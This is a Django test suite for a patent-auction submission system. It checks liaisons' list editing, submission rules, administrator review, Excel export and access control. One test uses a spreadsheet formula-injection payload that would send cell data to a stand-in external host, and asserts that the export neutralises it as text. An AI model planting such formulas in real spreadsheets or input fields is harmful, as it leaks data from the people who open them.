"""A liaison's list in the browser (through Django's client): items, contacts, sealed copy,
submission; the administrator's review. And who may not."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from auction.models import Item, SubmissionList
from auction.services.items import save_item
from tests.auction.conftest import patent_data, valid_numbers
from tests.conftest import make_organization, make_user

PDF = b"%PDF-1.4\n%%EOF\n"


def patent_form(field, number="ZL201710601862.3", **changes):
    data = {
        "title": "一种基于深度学习的锂离子电池健康状态估计方法", "application_number": number, "patent_type": "",
        "application_date": "2019.7.21", "grant_date": "2022年3月15日", "legal_status": "valid",
        "patentees": "南京工业大学", "inventors": "王强；李华", "ipc": "G01R31/367", "field": field.pk,
        "summary": "本发明公开了一种锂离子电池健康状态估计方法。", "prospects": "储能", "maturity": "sample",
        "trade_modes": ["assignment"], "asking_price": "50万",
    }
    data.update(changes)
    return data


def test_a_liaison_opens_the_years_list_and_adds_a_patent_typed_the_chinese_way(client_as, liaison, auction_2023,
                                                                                  field_2023, settings):
    import datetime

    from freezegun import freeze_time

    client = client_as(liaison)
    with freeze_time("2023-05-10"):
        response = client.post(reverse("auction:my-lists"))
    submission_list = SubmissionList.objects.get(organization=liaison.organization, campaign=auction_2023)
    assert response["Location"] == reverse("auction:list-detail", args=[submission_list.pk])
    response = client.post(reverse("auction:item-create", args=[submission_list.pk, "patent"]), patent_form(field_2023))
    assert response.status_code == 302, response.context["form"].errors
    item = Item.objects.get()
    assert item.application_number == "201710601862.3" and item.patent_type == "invention"
    assert item.grant_date == datetime.date(2022, 3, 15) and item.asking_price == 500000
    page = client.get(reverse("auction:list-detail", args=[submission_list.pk])).content.decode()
    assert "201710601862.3" in page and "1（至多 50）" in page


def test_a_rule_broken_in_the_form_is_shown_beside_its_field(client_as, liaison, unit_list, field_2023):
    response = client_as(liaison).post(reverse("auction:item-create", args=[unit_list.pk, "patent"]),
                                       patent_form(field_2023, grant_date="2019-05-01", asking_price="五十万"))
    errors = response.context["form"].errors
    assert "asking_price" in errors and not Item.objects.exists()
    response = client_as(liaison).post(reverse("auction:item-create", args=[unit_list.pk, "patent"]),
                                       patent_form(field_2023, grant_date="2019-05-01"))
    assert "2020-01-01" in str(response.context["form"].errors["grant_date"])


def test_submission_waits_for_the_agreement_the_contacts_the_sealed_copy_and_the_minimums(
        client_as, liaison, university, unit_list, field_2023, auction_2023):
    client = client_as(liaison)
    for number in valid_numbers(30):
        save_item(actor=liaison, submission_list=unit_list, data=patent_data(
            field_2023, number, programme_related=True, programme_level="provincial", programme_name="省重点研发计划",
            roadshow_pick=len(number) and unit_list.items.count() < 10))
    response = client.post(reverse("auction:list-submit", args=[unit_list.pk]), follow=True)
    assert "委托服务协议" in response.content.decode()
    unit_list.refresh_from_db()
    assert unit_list.status == "draft"

    client.post(reverse("organization-agreement", args=[university.pk]))
    response = client.post(reverse("auction:list-submit", args=[unit_list.pk]), follow=True)
    assert "盖章件" in response.content.decode()

    client.post(reverse("auction:list-sealed-copy", args=[unit_list.pk]),
                {"file": SimpleUploadedFile("盖章件.pdf", PDF)})
    client.post(reverse("auction:list-contacts", args=[unit_list.pk]), {
        "liaison_name": "张晓雯", "liaison_department": "科技处", "liaison_phone": "025-58139999",
        "liaison_email": "zxw@njtech.example.cn", "experts-TOTAL_FORMS": "1", "experts-INITIAL_FORMS": "0",
        "experts-0-name": "王强", "experts-0-title": "教授", "experts-0-speciality": "电池管理",
        "experts-0-phone": "", "experts-0-email": ""})
    assert unit_list.experts.get().name == "王强"
    response = client.post(reverse("auction:list-submit", args=[unit_list.pk]))
    unit_list.refresh_from_db()
    assert unit_list.status == "submitted" and unit_list.submitted_by == liaison


def submitted(unit_list, liaison, university, field_2023, count=30):
    from auction.services.lists import submit_list

    ready(unit_list, liaison, university, field_2023, count)
    return submit_list(actor=liaison, submission_list=unit_list)


def ready(unit_list, liaison, university, field_2023, count=30):
    """A list that meets the 2023 rules for a 部省属本科高校, with contacts and sealed copy."""
    from auction.services.lists import attach_sealed_copy, update_contacts
    from jbgs.services.organizations import accept_agreement

    accept_agreement(organization=university, actor=liaison)
    for i, number in enumerate(valid_numbers(count)):
        save_item(actor=liaison, submission_list=unit_list, data=patent_data(
            field_2023, number, programme_related=i < 3, programme_level="national" if i < 3 else "",
            programme_name="国家重点研发计划" if i < 3 else "", roadshow_pick=i < 10))
    update_contacts(actor=liaison, submission_list=unit_list, contacts={
        "liaison_name": "张晓雯", "liaison_phone": "025-58139999", "liaison_email": "z@njtech.example.cn"}, experts=[])
    attach_sealed_copy(actor=liaison, submission_list=unit_list, upload=SimpleUploadedFile("s.pdf", PDF))


def test_the_administrator_returns_one_item_and_then_accepts_the_corrected_list(
        client_as, admin_user, liaison, university, unit_list, field_2023):
    submitted(unit_list, liaison, university, field_2023)
    first = unit_list.items.first()
    admin = client_as(admin_user)
    response = admin.post(reverse("auction:list-review", args=[unit_list.pk]), {
        "decision": "return", "comment": "请修改标注的条目", f"item-{first.pk}-return": "on",
        f"item-{first.pk}-comment": "专利权人与证书不一致"})
    assert response.status_code == 302
    first.refresh_from_db()
    unit_list.refresh_from_db()
    assert unit_list.status == "returned" and first.review_state == "returned"
    assert liaison.notifications.filter(kind="auction.list.reviewed").exists()

    liaison_client = client_as(liaison)
    page = liaison_client.get(reverse("auction:list-detail", args=[unit_list.pk])).content.decode()
    assert "专利权人与证书不一致" in page and "请修改标注的条目" in page
    edited = liaison_client.post(reverse("auction:item-edit", args=[first.pk]),
                                 patent_form(field_2023, first.application_number, patentees="南京工业大学；江苏某公司",
                                             programme_related="on", programme_level="national",
                                             programme_name="国家重点研发计划", roadshow_pick="on"))
    assert edited.status_code == 302, edited.context["form"].errors
    resubmitted = liaison_client.post(reverse("auction:list-submit", args=[unit_list.pk]), follow=True)
    assert resubmitted.redirect_chain, [str(m) for m in resubmitted.context["messages"]]
    unit_list.refresh_from_db()
    assert unit_list.status == "submitted"

    admin = client_as(admin_user)
    admin.post(reverse("auction:list-review", args=[unit_list.pk]), {"decision": "accept", "comment": ""})
    unit_list.refresh_from_db()
    assert unit_list.status == "accepted"
    assert set(unit_list.items.values_list("review_state", flat=True)) == {"accepted"}


def test_the_progress_page_exports_every_units_counts_to_excel(client_as, admin_user, liaison, unit_list, field_2023):
    save_item(actor=liaison, submission_list=unit_list, data=patent_data(field_2023))
    response = client_as(admin_user).get(reverse("auction:progress"),
                                         {"campaign": unit_list.campaign_id, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][0] == "南京工业大学" and rows[1][4] == 1


def test_a_unit_named_like_a_formula_is_exported_as_text(client_as, admin_user, liaison, university, unit_list):
    """A name accepted by the public application form must not run in the administrator's Excel."""
    formula = '=HYPERLINK("http://x.example/?"&A3,"详情")'
    university.name = formula
    university.save(update_fields=["name"])
    response = client_as(admin_user).get(reverse("auction:progress"),
                                         {"campaign": unit_list.campaign_id, "format": "xlsx"})
    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)


@pytest.mark.parametrize("persona", ["solver", "expert", "enterprise_user", "outsider", "organizer"])
def test_nobody_but_the_units_liaison_and_administrators_sees_a_list(request, client_as, persona, unit_list,
                                                                      liaison, field_2023):
    item = save_item(actor=liaison, submission_list=unit_list, data=patent_data(field_2023))
    client = client_as(request.getfixturevalue(persona))
    assert client.get(reverse("auction:list-detail", args=[unit_list.pk])).status_code == 403
    assert client.get(reverse("auction:item-detail", args=[item.pk])).status_code == 403
    assert client.post(reverse("auction:item-delete", args=[item.pk])).status_code == 403
    assert Item.objects.filter(pk=item.pk).exists()


def test_another_units_liaison_cannot_touch_the_list(client_as, unit_list, liaison, field_2023):
    other = make_organization("东南大学", "undergraduate_university", "320102")
    intruder = make_user("seu-liaison", other, ["liaison"])
    client = client_as(intruder)
    assert client.get(reverse("auction:list-detail", args=[unit_list.pk])).status_code == 403
    response = client.post(reverse("auction:item-create", args=[unit_list.pk, "patent"]), patent_form(field_2023))
    assert response.status_code == 403 and not Item.objects.exists()


def test_a_submitted_list_cannot_be_changed(client_as, liaison, university, unit_list, field_2023):
    submitted(unit_list, liaison, university, field_2023)
    item = unit_list.items.first()
    client = client_as(liaison)
    assert client.get(reverse("auction:item-edit", args=[item.pk])).status_code == 403
    assert client.post(reverse("auction:item-create", args=[unit_list.pk, "patent"]),
                       patent_form(field_2023, valid_numbers(40)[-1])).status_code == 403


def test_the_list_page_runs_a_fixed_number_of_queries(client_as, liaison, unit_list, field_2023,
                                                       django_assert_max_num_queries):
    for number in valid_numbers(25):
        save_item(actor=liaison, submission_list=unit_list, data=patent_data(field_2023, number))
    client = client_as(liaison)
    with django_assert_max_num_queries(14):
        assert client.get(reverse("auction:list-detail", args=[unit_list.pk])).status_code == 200


def test_picking_roadshow_items_in_the_table_refreshes_the_compliance_panel(client_as, liaison, unit_list,
                                                                            field_2023):
    item = save_item(actor=liaison, submission_list=unit_list, data=patent_data(field_2023))
    client = client_as(liaison)
    answer = client.post(reverse("auction:item-roadshow", args=[item.pk]), {"roadshow_pick": "on"},
                         HTTP_HX_REQUEST="true")
    assert answer["HX-Trigger"] == "itemsChanged" and 'name="roadshow_pick" checked' in answer.text
    item.refresh_from_db()
    assert item.roadshow_pick
    panel = client.get(reverse("auction:list-compliance", args=[unit_list.pk]))
    assert "1（至少 10）" in panel.text and "1（至多 10）" in panel.text  # a number to reach, and not pass
    client.post(reverse("auction:item-roadshow", args=[item.pk]), {}, HTTP_HX_REQUEST="true")  # unpicked
    item.refresh_from_db()
    assert not item.roadshow_pick
